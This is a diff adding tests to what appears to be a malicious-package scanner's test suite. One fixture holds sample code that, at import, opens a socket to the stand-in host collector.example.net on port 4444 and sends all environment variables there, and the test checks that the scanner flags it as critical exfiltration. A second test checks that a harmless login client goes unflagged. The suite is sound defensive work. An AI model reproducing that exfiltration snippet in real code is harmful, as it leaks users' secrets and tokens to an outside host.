@@ -1162,3 +1162,41 @@ def test_downloaded_text_run_by_a_shell_or_a_wrapper_stays_download_execute():
         src = _CHAINED.replace("RUN", run)
         result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/assets.py": src})
         assert found(result, "intent.download-execute"), run
+
+
+# -- a socket made here sends what it is given: the environment sent on one is exfiltration --
+
+_SOCKET_SEND = """
+import json
+import os
+import socket
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("collector.example.net", 4444))
+s.sendall(json.dumps(dict(os.environ)).encode())
+"""
+
+
+def test_the_environment_sent_on_a_raw_socket_at_import_is_exfiltration():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _SOCKET_SEND})
+    assert {f.severity for f in found(result, "intent.exfiltration")} == {"critical"}
+    assert result.verdict == "malicious"
+
+
+def test_a_client_sending_the_users_own_login_on_its_socket_is_not_flagged():
+    src = """
+    import socket
+
+    def login(host, port, user, password):
+        sock = socket.create_connection((host, port), timeout=10)
+        sock.sendall(f"AUTH {user} {password}\\r\\n".encode())
+        return sock.recv(1024)
+
+    def ping(host, port):
+        with socket.create_connection((host, port)) as s:
+            s.sendall(b"PING\\r\\n")
+            return s.recv(64) == b"PONG\\r\\n"
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": src})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
